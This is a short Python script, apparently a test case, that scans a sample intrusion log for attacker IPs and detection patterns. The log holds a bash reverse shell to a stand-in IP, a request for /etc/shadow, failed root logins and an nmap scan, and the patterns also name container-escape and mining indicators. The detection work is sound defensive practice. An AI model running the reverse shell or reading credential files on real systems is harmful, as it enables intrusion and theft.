# expect: completed
# stdout: [('203.0.113.9', 2)]
# stdout: /etc/shadow      1
# stdout: \bnmap\b         1
# stdout: /dev/tcp/        1
# stdout: release_agent    0
# stdout: stratum\+tcp     0
# note: A security engineer's own log analysis: the words of attacks are data here.

import re
from collections import Counter

LOG = """\
Jan 10 03:12:01 web sshd[411]: Failed password for root from 203.0.113.9 port 4242 ssh2
Jan 10 03:12:04 web sshd[411]: Failed password for admin from 203.0.113.9 port 4243 ssh2
Jan 10 03:14:40 web nginx: GET /etc/shadow HTTP/1.1 404 from 198.51.100.7
Jan 10 03:15:02 web cron: nmap -sS 10.0.0.0/24 started by uid 0
Jan 10 03:16:59 web audit: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
"""

attackers = Counter(re.findall(r"from (\d+\.\d+\.\d+\.\d+)", LOG))
print(attackers.most_common(1))
for pattern in (r"/etc/shadow", r"\bnmap\b", r"/dev/tcp/", r"release_agent", r"stratum\+tcp"):
    print(f"{pattern:16}", len(re.findall(pattern, LOG)))
